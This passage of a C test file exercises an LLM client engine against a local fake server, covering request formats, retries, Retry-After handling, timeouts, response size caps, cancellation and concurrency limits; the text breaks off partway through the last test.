/*
 * The LLM engine against fakellm on 127.0.0.1: the three formats,
 * streamed and not, the exact request on the wire, retries (429 with
 * Retry-After in seconds and as a date, 5xx, resets, truncated streams),
 * errors that are not retried, timeouts, record and replay, cancellation,
 * the concurrency cap and many requests on one thread.
 */
#include <sys/epoll.h>

#include <errno.h>
#include <poll.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <curl/curl.h>

#include "common/clock.h"
#include "llm/llm_int.h"
#include "llm/llm_testapi.h"
#include "tests/llm/llm_testutil.h"

static const struct msg_tool tools[] = {
	{ "read", "Read a file", "{\"type\":\"object\",\"properties\":{\"path\":"
	    "{\"type\":\"string\"}},\"required\":[\"path\"]}" },
	{ "list", "List a directory", NULL },
};

static void
conv(struct msg_list *l, const char *task)
{
	msg_list_init(l);
	assert_int_equal(msg_list_add_text(l, MSG_SYSTEM, "You are a test."), 0);
	assert_int_equal(msg_list_add_text(l, MSG_USER, task), 0);
}

static void
request(struct llm_request *r, const struct msg_list *l, const char *agent,
    unsigned step)
{
	memset(r, 0, sizeof(*r));
	r->agent = agent;
	r->step = step;
	r->msgs = l;
	r->tools = tools;
	r->ntools = 2;
}

/* One blocking exchange with a fresh engine. */
static int
exchange(const struct llm_config *lc, const char *task, struct llm_result *res)
{
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l;
	char			 err[512];
	int			 rc;

	assert_non_null(e = llm_engine_new(lc, err, sizeof(err)));
	conv(&l, task);
	request(&r, &l, "0", 1);
	rc = llm_complete_blocking(e, &r, res);
	msg_list_free(&l);
	llm_engine_free(e);
	return rc;
}

static size_t
nrequests(const struct fakellm *f)
{
	json_t	*reqs = fakellm_requests(f);
	size_t	 n = json_array_size(reqs);

	json_decref(reqs);
	return n;
}

struct text_log {
	char	buf[4096];
	size_t	len;
	int	restarts;
	int	calls;
};

static void
collect_text(const char *s, size_t len, void *arg)
{
	struct text_log	*t = arg;

	if (s == NULL) {
		t->restarts++;
		t->len = 0;
		return;
	}
	t->calls++;
	assert_true(t->len + len < sizeof(t->buf));
	memcpy(t->buf + t->len, s, len);
	t->len += len;
	t->buf[t->len] = '\0';
}

/* Each format, streamed and whole: same reply, exact request. */
static void
test_formats(void **state)
{
	static const enum llm_provider provs[] = { LLM_PROVIDER_OPENAI,
	    LLM_PROVIDER_ANTHROPIC, LLM_PROVIDER_RESPONSES };
	static const char *const paths[] = { "/v1/chat/completions",
	    "/v1/messages", "/v1/responses" };
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct llm_result	 res;
	struct msg_list		 l;
	struct text_log		 t;
	json_t			*reqs, *q, *h, *b;
	char			 err[512];
	size_t			 i, stream, n = 0;

	(void)state;
	fakellm_start(&f, "hello.json");
	for (i = 0; i < 3; i++) {
		for (stream = 0; stream <= 1; stream++) {
			llm_test_config(&lc, &f, provs[i]);
			lc.stream = (int)stream;
			lc.key = strdup("sk-test-KEY-1234");
			assert_non_null(e = llm_engine_new(&lc, err,
			    sizeof(err)));
			conv(&l, "Read src/a.c");
			request(&r, &l, "0.3", 7);
			memset(&t, 0, sizeof(t));
			r.on_text = collect_text;
			r.text_arg = &t;
			assert_int_equal(llm_complete_blocking(e, &r, &res), 0);
			assert_int_equal(res.err, LLM_OK);
			assert_string_equal(res.reply.msg.text,
			    "Hello from fakellm: caf\xc3\xa9 \xe2\x98\x83.");
			/* The UI saw the same text, in pieces when streamed. */
			assert_string_equal(t.buf, res.reply.msg.text);
			assert_true(stream ? t.calls > 1 : t.calls == 1);
			assert_int_equal(res.reply.msg.ncalls, 1);
			assert_string_equal(res.reply.msg.calls[0].id, "call_1");
			assert_string_equal(res.reply.msg.calls[0].name, "read");
			assert_string_equal(res.reply.msg.calls[0].args,
			    "{\"path\":\"src/a.c\"}");
			assert_int_equal(res.reply.stop, MSG_STOP_TOOL_CALLS);
			assert_int_equal(res.reply.usage.input, 42);
			assert_int_equal(res.reply.usage.output, 7);
			assert_int_equal(res.attempts, 1);
			llm_result_free(&res);
			msg_list_free(&l);
			llm_engine_free(e);
			llm_config_free(&lc);

			reqs = fakellm_requests(&f);
			assert_int_equal(json_array_size(reqs), ++n);
			q = json_array_get(reqs, n - 1);
			assert_string_equal(llm_json_str(q, "method"), "POST");
			assert_string_equal(llm_json_str(q, "path"), paths[i]);
			h = json_object_get(q, "headers");
			b = json_object_get(q, "body");
			assert_string_equal(llm_json_str(h, "content-type"),
			    "application/json");
			assert_null(json_object_get(h, "expect"));
			if (provs[i] == LLM_PROVIDER_ANTHROPIC) {
				assert_string_equal(llm_json_str(h, "x-api-key"),
				    "sk-test-KEY-1234");
				assert_null(json_object_get(h, "authorization"));
				assert_string_equal(llm_json_str(h,
				    "anthropic-version"), "2023-06-01");
				assert_string_equal(llm_json_str(b, "system"),
				    "You are a test.");
				assert_string_equal(llm_json_str(json_object_get(
				    json_array_get(json_object_get(b, "tools"),
				    0), "input_schema"), "type"), "object");
			} else {
				assert_string_equal(llm_json_str(h,
				    "authorization"), "Bearer sk-test-KEY-1234");
				assert_null(json_object_get(h, "x-api-key"));
			}
			assert_string_equal(llm_json_str(b, "model"),
			    "test-model");
			assert_int_equal(json_is_true(json_object_get(b,
			    "stream")), (int)stream);
			assert_int_equal(json_array_size(json_object_get(b,
			    "tools")), 2);
			json_decref(reqs);
		}
	}
	fakellm_stop(&f);
}

/* Messages in order on the wire, extra headers, no key when none. */
static void
test_wire_messages(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct llm_result	 res;
	struct msg_list		 l;
	struct msg		 m;
	json_t			*reqs, *msgs, *h;
	char			 err[512], *hdrs[1];

	(void)state;
	fakellm_start(&f, "hello.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	hdrs[0] = strdup("X-Org: warren-tests");
	lc.headers = hdrs;
	lc.nheaders = 1;
	lc.temperature = 0.25;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	lc.headers = NULL;
	lc.nheaders = 0;
	free(hdrs[0]);
	conv(&l, "first");
	memset(&m, 0, sizeof(m));
	m.role = MSG_ASSISTANT;
	m.text = strdup("calling");
	assert_int_equal(msg_add_call(&m, "k9", "list", "{\"path\":\".\"}"), 0);
	assert_int_equal(msg_list_take(&l, &m), 0);
	memset(&m, 0, sizeof(m));
	m.role = MSG_TOOL;
	m.call_id = strdup("k9");
	m.name = strdup("list");
	m.text = strdup("a\nb");
	assert_int_equal(msg_list_take(&l, &m), 0);
	assert_int_equal(msg_list_add_text(&l, MSG_USER, "last"), 0);
	request(&r, &l, "0", 2);
	r.model = "override-model";
	r.max_tokens = 77;
	assert_int_equal(llm_complete_blocking(e, &r, &res), 0);
	llm_result_free(&res);
	reqs = fakellm_requests(&f);
	h = json_object_get(json_array_get(reqs, 0), "headers");
	assert_string_equal(llm_json_str(h, "x-org"), "warren-tests");
	assert_null(json_object_get(h, "authorization"));
	msgs = json_object_get(json_object_get(json_array_get(reqs, 0), "body"),
	    "messages");
	assert_int_equal(json_array_size(msgs), 5);
	assert_string_equal(llm_json_str(json_array_get(msgs, 1), "content"),
	    "first");
	assert_string_equal(llm_json_str(json_array_get(msgs, 2), "content"),
	    "calling");
	assert_string_equal(llm_json_str(json_array_get(msgs, 3), "role"), "tool");
	assert_string_equal(llm_json_str(json_array_get(msgs, 3), "tool_call_id"),
	    "k9");
	assert_string_equal(llm_json_str(json_array_get(msgs, 4), "content"),
	    "last");
	assert_string_equal(llm_json_str(json_object_get(json_array_get(reqs,
	    0), "body"), "model"), "override-model");
	assert_int_equal(json_integer_value(json_object_get(json_object_get(
	    json_array_get(reqs, 0), "body"), "max_tokens")), 77);
	assert_true(json_real_value(json_object_get(json_object_get(
	    json_array_get(reqs, 0), "body"), "temperature")) == 0.25);
	json_decref(reqs);
	msg_list_free(&l);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_retry_after_seconds(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;
	uint64_t		t0;

	(void)state;
	fakellm_start(&f, "retry_429.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.backoff_max_ms = 10000;
	t0 = clock_mono_ms();
	assert_int_equal(exchange(&lc, "x", &res), 0);
	/* A guarantee, not a timing guess: it waited what it was told. */
	assert_true(clock_mono_ms() - t0 >= 1000);
	assert_string_equal(res.reply.msg.text, "after the rate limit");
	assert_int_equal(res.attempts, 2);
	assert_int_equal(nrequests(&f), 2);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/* A gate as the supervisor's rate_gate: the first ask waits 300 ms. */
struct test_gate {
	int		takes, spends, pauses;
	uint64_t	tokens, paused_ms;
};

static uint64_t
gate_take(void *arg)
{
	struct test_gate	*g = arg;

	return g->takes++ == 0 ? 300 : 0;
}

static void
gate_spent(void *arg, uint64_t tokens)
{
	struct test_gate	*g = arg;

	g->spends++;
	g->tokens += tokens;
}

static void
gate_pause(void *arg, uint64_t ms)
{
	struct test_gate	*g = arg;

	g->pauses++;
	g->paused_ms = ms;
}

/* One request to f through the gate g, under backoff_max max_ms: its
 * result in res, and the milliseconds it took. */
static uint64_t
gate_exchange(struct fakellm *f, unsigned max_ms, struct test_gate *g,
    struct llm_result *res)
{
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l;
	struct llm_gate		 lg = { gate_take, gate_spent, gate_pause, g };
	char			 err[512];
	uint64_t		 t0;

	llm_test_config(&lc, f, LLM_PROVIDER_OPENAI);
	lc.backoff_max_ms = max_ms;
	if ((e = llm_engine_new(&lc, err, sizeof(err))) == NULL)
		fail_msg("llm_engine_new: %s", err);
	llm_engine_set_gate(e, &lg);
	conv(&l, "x");
	request(&r, &l, "0", 1);
	t0 = clock_mono_ms();
	assert_int_equal(llm_complete_blocking(e, &r, res), 0);
	t0 = clock_mono_ms() - t0;
	msg_list_free(&l);
	llm_engine_free(e);
	llm_config_free(&lc);
	return t0;
}

/* Every request passes the gate: held while it says wait, its cost
 * reported, a 429 reported as a pause of its Retry-After. */
static void
test_gate(void **state)
{
	struct fakellm		 f;
	struct llm_result	 res;
	struct test_gate	 g;

	(void)state;
	memset(&g, 0, sizeof(g));
	fakellm_start(&f, "retry_429.json");
	assert_true(gate_exchange(&f, 10000, &g, &res) >= 300 + 1000);
	assert_int_equal(g.takes, 3);	/* wait, go (429), go */
	assert_int_equal(g.pauses, 1);
	assert_int_equal(g.paused_ms, 1000);
	assert_int_equal(g.spends, 1);
	assert_int_equal(nrequests(&f), 2);
	llm_result_free(&res);
	fakellm_stop(&f);
}

/* One 429 whose Retry-After says secs, under backoff_max max_ms: the
 * wait the engine reported to the gate (the one its timer uses). */
static uint64_t
retry_after_capped(const char *secs, unsigned max_ms)
{
	struct fakellm		 f;
	struct llm_result	 res;
	struct test_gate	 g;
	char			 script[512];

	memset(&g, 0, sizeof(g));
	g.takes = 1;		/* no first wait */
	snprintf(script, sizeof(script), "{\"responses\": [{\"status\": 429, "
	    "\"headers\": {\"Retry-After\": \"%s\"}, \"body\": \"slow\"}, "
	    "{\"reply\": {\"text\": \"after\"}}]}", secs);
	fakellm_start_json(&f, script);
	assert_true(gate_exchange(&f, max_ms, &g, &res) >= g.paused_ms);
	assert_string_equal(res.reply.msg.text, "after");
	assert_int_equal(g.pauses, 1);
	llm_result_free(&res);
	fakellm_stop(&f);
	return g.paused_ms;
}

/* docs/llm.md: Retry-After is capped by backoff_max. At the cap it is
 * waited in full; a cap 1 ms under it wins; a server asking for more
 * than the cap gets the cap (5 s, so that a lost cap fails in 5 s,
 * not an hour). */
static void
test_retry_after_cap(void **state)
{
	(void)state;
	assert_int_equal(retry_after_capped("1", 1000), 1000);
	assert_int_equal(retry_after_capped("1", 999), 999);
	assert_int_equal(retry_after_capped("5", 1000), 1000);
}

static void
test_retry_after_date(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;
	struct tm		tm;
	time_t			when = time(NULL) + 2;
	char			date[64], script[512];
	uint64_t		t0;

	(void)state;
	gmtime_r(&when, &tm);
	strftime(date, sizeof(date), "%a, %d %b %Y %H:%M:%S GMT", &tm);
	snprintf(script, sizeof(script), "{\"responses\": [{\"status\": 503, "
	    "\"headers\": {\"Retry-After\": \"%s\"}, \"body\": \"busy\"}, "
	    "{\"reply\": {\"text\": \"after the date\"}}]}", date);
	fakellm_start_json(&f, script);
	llm_test_config(&lc, &f, LLM_PROVIDER_RESPONSES);
	lc.backoff_max_ms = 10000;
	t0 = clock_mono_ms();
	assert_int_equal(exchange(&lc, "x", &res), 0);
	/* The date was 2 s ahead at whole-second precision: >= 1 s. */
	assert_true(clock_mono_ms() - t0 >= 1000);
	assert_string_equal(res.reply.msg.text, "after the date");
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_retry_5xx_reset_truncated(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct llm_result	 res;
	struct msg_list		 l;
	struct text_log		 t;
	char			 err[512];

	(void)state;
	fakellm_start(&f, "retry_500.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	assert_int_equal(exchange(&lc, "x", &res), 0);
	assert_string_equal(res.reply.msg.text, "third time lucky");
	assert_int_equal(res.attempts, 3);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	fakellm_start(&f, "reset.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	assert_int_equal(exchange(&lc, "x", &res), 0);
	assert_string_equal(res.reply.msg.text, "after a reset");
	assert_int_equal(res.attempts, 2);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	/* Clean end without the final event, then a cut connection. */
	fakellm_start(&f, "truncated.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	conv(&l, "x");
	request(&r, &l, "0", 1);
	memset(&t, 0, sizeof(t));
	r.on_text = collect_text;
	r.text_arg = &t;
	assert_int_equal(llm_complete_blocking(e, &r, &res), 0);
	assert_string_equal(res.reply.msg.text, "complete at last");
	assert_int_equal(res.attempts, 3);
	/* The UI was told twice to drop the partial text. */
	assert_int_equal(t.restarts, 2);
	assert_string_equal(t.buf, "complete at last");
	llm_result_free(&res);
	msg_list_free(&l);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/* An error event in a 200 stream is retried; a garbled event is not. */
static void
test_stream_errors(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;

	(void)state;
	fakellm_start(&f, "stream_error.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_PARSE);
	assert_int_equal(res.attempts, 2);
	assert_non_null(strstr(res.error, "malformed JSON"));
	assert_non_null(strstr(res.error, "not json at all"));
	assert_int_equal(nrequests(&f), 2);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_retries_exhausted(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;

	(void)state;
	fakellm_start(&f, "always_500.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.retries = 2;
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_EXHAUSTED);
	assert_int_equal(res.status, 503);
	assert_int_equal(res.attempts, 3);
	assert_non_null(strstr(res.error, "still overloaded"));
	assert_non_null(strstr(res.error, "gave up after 3 attempts"));
	assert_non_null(strstr(res.error, f.url));
	assert_int_equal(nrequests(&f), 3);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_not_retried(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;

	(void)state;
	fakellm_start(&f, "http_401.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.key = strdup("sk-secret-never-shown");
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_HTTP);
	assert_int_equal(res.status, 401);
	assert_int_equal(res.attempts, 1);
	/* Names the endpoint, the status and the server's own message. */
	assert_non_null(strstr(res.error, "/v1/chat/completions"));
	assert_non_null(strstr(res.error, "HTTP 401"));
	assert_non_null(strstr(res.error, "Incorrect API key provided"));
	assert_null(strstr(res.error, "sk-secret"));
	assert_int_equal(nrequests(&f), 1);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	/* 200 with garbage: a parse error quoting it, escaped, not retried. */
	fakellm_start(&f, "invalid_json.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.stream = 0;
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_PARSE);
	assert_non_null(strstr(res.error, "malformed JSON"));
	assert_non_null(strstr(res.error, "\\x1b[2J"));
	assert_null(strchr(res.error, '\x1b'));
	assert_int_equal(nrequests(&f), 1);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	/* Nothing listening: refused connections are retried, then fail. */
	memset(&f, 0, sizeof(f));
	snprintf(f.url, sizeof(f.url), "http://127.0.0.1:1/v1");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.retries = 1;
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_EXHAUSTED);
	assert_int_equal(res.attempts, 2);
	llm_result_free(&res);
	llm_config_free(&lc);

	/* A URL curl refuses is not retried. */
	snprintf(f.url, sizeof(f.url), "http://[::1");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_TRANSPORT);
	assert_int_equal(res.attempts, 1);
	llm_result_free(&res);
	llm_config_free(&lc);
}

/* fakellm answering once with a text of n bytes. */
static void
start_big(struct fakellm *f, size_t n)
{
	char	*script;
	size_t	 len = n + 128;

	assert_non_null(script = malloc(len));
	memcpy(script, "[{\"reply\":{\"text\":\"", 19);
	memset(script + 19, 'b', n);
	snprintf(script + 19 + n, len - 19 - n, "\",\"stop\":\"end\"}}]");
	fakellm_start_json(f, script);
	free(script);
}

/*
 * An answer over max_response (64 KiB here: bytes on the wire) is cut off
 * as it arrives and fails saying so, not retried, streamed or whole; one
 * under it passes.
 * llm_engine.c:llm_call_write.
 */
static void
test_max_response(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;
	int			stream;

	(void)state;
	for (stream = 0; stream <= 1; stream++) {
		/* streamed, 10 kB of text make 1,250 events, some 150 kB */
		start_big(&f, stream ? 10000 : 200000);
		llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
		lc.stream = stream;
		lc.max_response = 64 * 1024;
		assert_int_equal(exchange(&lc, "x", &res), -1);
		if (res.error == NULL || strstr(res.error,
		    "answer larger than max_response (65536 bytes)") == NULL)
			fail_msg("%s with max_response 64 KiB: %s (%u "
			    "attempts)", stream ? "a streamed answer of 10 kB "
			    "of text" : "a whole answer of 200 kB",
			    res.error ? res.error : "(no error)", res.attempts);
		assert_int_equal(res.attempts, 1);
		assert_int_equal(nrequests(&f), 1);
		llm_result_free(&res);
		llm_config_free(&lc);
		fakellm_stop(&f);
	}
	/* (the cap counts bytes on the wire: streamed, 8-byte deltas of
	   text take 20 times their size) */
	start_big(&f, 30000);
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.stream = 0;
	lc.max_response = 64 * 1024;
	if (exchange(&lc, "x", &res) != 0)
		fail_msg("30 kB under max_response 64 KiB: %s", res.error);
	assert_int_equal(strlen(res.reply.msg.text), 30000);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_timeouts(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;

	(void)state;
	fakellm_start(&f, "slow.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.timeout_ms = 300;
	lc.retries = 1;
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_TIMEOUT);
	assert_non_null(strstr(res.error, "no complete answer within 300 ms"));
	assert_int_equal(res.attempts, 2);
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	fakellm_start(&f, "idle.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.idle_timeout_ms = 300;
	lc.retries = 0;
	assert_int_equal(exchange(&lc, "x", &res), -1);
	assert_int_equal(res.err, LLM_ERR_TIMEOUT);
	assert_non_null(strstr(res.error, "no data for 300 ms"));
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_unknown_tool_and_text_mode(void **state)
{
	struct fakellm		f;
	struct llm_config	lc;
	struct llm_result	res;
	json_t			*reqs, *b, *m;

	(void)state;
	/* A tool nobody offered, with broken arguments: passed through raw
	 * for the agent to refuse; nothing crashes. */
	fakellm_start(&f, "unknown_tool.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	assert_int_equal(exchange(&lc, "x", &res), 0);
	assert_int_equal(res.reply.msg.ncalls, 1);
	assert_string_equal(res.reply.msg.calls[0].name, "launch_missiles");
	assert_string_equal(res.reply.msg.calls[0].args, "{\"target\": ");
	llm_result_free(&res);
	llm_config_free(&lc);
	fakellm_stop(&f);

	fakellm_start(&f, "text_mode.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.tool_mode = LLM_TOOLS_TEXT;
	assert_int_equal(exchange(&lc, "x", &res), 0);
	assert_string_equal(res.reply.msg.text, "I'll list it.");
	assert_int_equal(res.reply.msg.ncalls, 1);
	assert_string_equal(res.reply.msg.calls[0].name, "list");
	assert_string_equal(res.reply.msg.calls[0].args, "{\"path\":\"src\"}");
	assert_int_equal(res.reply.stop, MSG_STOP_TOOL_CALLS);
	llm_result_free(&res);
	/* No native tools on the wire; they are in the system prompt. */
	reqs = fakellm_requests(&f);
	b = json_object_get(json_array_get(reqs, 0), "body");
	assert_null(json_object_get(b, "tools"));
	m = json_array_get(json_object_get(b, "messages"), 0);
	assert_non_null(strstr(llm_json_str(m, "content"), "\"name\":\"read\""));
	json_decref(reqs);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/* ---- asynchronous use, as the supervisor does ---- */

struct done_log {
	int		 n;
	uint64_t	 ids[128];
	enum llm_err	 errs[128];
	char		*texts[128];
};

static void
on_done(struct llm_result *res, void *arg)
{
	struct done_log	*d = arg;

	assert_true(d->n < 128);
	d->ids[d->n] = res->id;
	d->errs[d->n] = res->err;
	/* Take the text: the result is the engine's. */
	d->texts[d->n] = res->reply.msg.text;
	res->reply.msg.text = NULL;
	d->n++;
}

static void
run_until(struct llm_engine *e, struct done_log *d, int n)
{
	struct pollfd	pfd;
	uint64_t	deadline = clock_mono_ms() + 60000;	/* hang guard */

	pfd.fd = llm_engine_fd(e);
	pfd.events = POLLIN;
	while (d->n < n) {
		if (clock_mono_ms() >= deadline)
			fail_msg("waited 60 s for %d requests to end: %d did",
			    n, d->n);
		poll(&pfd, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
	}
}

/* As the supervisor does: the engine fd inside the caller's own epoll. */
static void
run_until_epoll(struct llm_engine *e, struct done_log *d, int n)
{
	struct epoll_event	ev;
	uint64_t		deadline = clock_mono_ms() + 60000;
	int			ep;

	assert_true((ep = epoll_create1(EPOLL_CLOEXEC)) != -1);
	memset(&ev, 0, sizeof(ev));
	ev.events = EPOLLIN;
	ev.data.fd = llm_engine_fd(e);
	assert_int_equal(epoll_ctl(ep, EPOLL_CTL_ADD, llm_engine_fd(e), &ev), 0);
	while (d->n < n) {
		if (clock_mono_ms() >= deadline)
			fail_msg("waited 60 s for %d requests to end: %d did",
			    n, d->n);
		epoll_wait(ep, &ev, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
	}
	close(ep);
}

static void
done_free(struct done_log *d)
{
	int	i;

	for (i = 0; i < d->n; i++)
		free(d->texts[i]);
}

static void
test_many_async_and_match(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 la, lb, lb2;
	struct done_log		 d;
	uint64_t		 ids[40];
	char			 err[512];
	int			 i, j;

	(void)state;
	fakellm_start(&f, "by_agent.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.concurrency = 8;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	conv(&la, "TASK-ALPHA");
	conv(&lb, "TASK-BETA");
	conv(&lb2, "TASK-BETA second");
	memset(&d, 0, sizeof(d));
	for (i = 0; i < 40; i++) {
		request(&r, i % 3 == 0 ? &la : i % 3 == 1 ? &lb : &lb2, "0.1",
		    (unsigned)i);
		assert_true((ids[i] = llm_submit(e, &r, on_done, &d)) != 0);
	}
	/* No callback from inside llm_submit. */
	assert_int_equal(d.n, 0);
	assert_int_equal(llm_engine_pending(e), 40);
	run_until_epoll(e, &d, 40);
	assert_int_equal(llm_engine_pending(e), 0);
	for (i = 0; i < 40; i++) {
		for (j = 0; j < 40 && d.ids[j] != ids[i]; j++)
			;
		assert_true(j < 40);
		assert_int_equal(d.errs[j], LLM_OK);
		assert_string_equal(d.texts[j], i % 3 == 0 ? "alpha answer" :
		    i % 3 == 1 ? "beta answer" : "beta second");
	}
	done_free(&d);
	msg_list_free(&la);
	msg_list_free(&lb);
	msg_list_free(&lb2);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

static void
test_cap_and_cancel(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l[4];
	struct done_log		 d;
	uint64_t		 ids[4];
	json_t			*reqs;
	char			 err[512], task[32], *dump;
	int			 i;

	(void)state;
	fakellm_start(&f, "hello.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.concurrency = 1;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	memset(&d, 0, sizeof(d));
	for (i = 0; i < 4; i++) {
		snprintf(task, sizeof(task), "task number %d", i);
		conv(&l[i], task);
		request(&r, &l[i], "0", (unsigned)i);
		assert_true((ids[i] = llm_submit(e, &r, on_done, &d)) != 0);
	}
	/* Cancel a queued one: its callback still comes, cancelled. */
	assert_int_equal(llm_cancel(e, ids[2]), 0);
	assert_int_equal(d.n, 0);
	run_until(e, &d, 4);
	assert_int_equal(llm_cancel(e, ids[2]), -1);
	assert_int_equal(errno, ENOENT);
	for (i = 0; i < 4; i++)
		assert_int_equal(d.errs[i], d.ids[i] == ids[2] ?
		    LLM_ERR_CANCELLED : LLM_OK);
	/* With a cap of one, requests reach the server in submit order. */
	reqs = fakellm_requests(&f);
	assert_int_equal(json_array_size(reqs), 3);
	dump = json_dumps(json_object_get(json_array_get(reqs, 2), "body"), 0);
	assert_non_null(strstr(dump, "task number 3"));
	free(dump);
	json_decref(reqs);
	done_free(&d);
	for (i = 0; i < 4; i++)
		msg_list_free(&l[i]);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);

	/* Cancel one on the wire (the server is slow to answer). */
	fakellm_start(&f, "slow.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	memset(&d, 0, sizeof(d));
	conv(&l[0], "x");
	request(&r, &l[0], "0", 0);
	assert_true((ids[0] = llm_submit(e, &r, on_done, &d)) != 0);
	while (nrequests(&f) == 0) {
		struct pollfd pfd = { llm_engine_fd(e), POLLIN, 0 };

		poll(&pfd, 1, 50);
		llm_engine_process(e);
	}
	assert_int_equal(llm_cancel(e, ids[0]), 0);
	run_until(e, &d, 1);
	assert_int_equal(d.errs[0], LLM_ERR_CANCELLED);
	done_free(&d);
	msg_list_free(&l[0]);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/* run_until, noting the most requests on the wire at any one time. */
static size_t
run_until_max(struct llm_engine *e, struct done_log *d, int n)
{
	struct pollfd	pfd;
	uint64_t	deadline = clock_mono_ms() + 60000;	/* hang guard */
	size_t		most = 0;

	pfd.fd = llm_engine_fd(e);
	pfd.events = POLLIN;
	while (d->n < n) {
		if (clock_mono_ms() >= deadline)
			fail_msg("waited 60 s for %d requests to end: %d did",
			    n, d->n);
		poll(&pfd, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
		if (llm_engine_active(e) > most)
			most = llm_engine_active(e);
	}
	return most;
}

/* docs/llm.md: llm_concurrency is the most requests on the wire at once:
 * nine slow ones under a cap of 3 have exactly 3 out at a time, never 4. */
static void
test_cap_exact(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l;
	struct done_log		 d;
	char			 err[512];
	size_t			 most;
	int			 i;

	(void)state;
	fakellm_start_json(&f, "{\"responses\": [{\"delay_ms\": 300, "
	    "\"reply\": {\"text\": \"slow\"}}], \"repeat\": true}");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.concurrency = 3;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
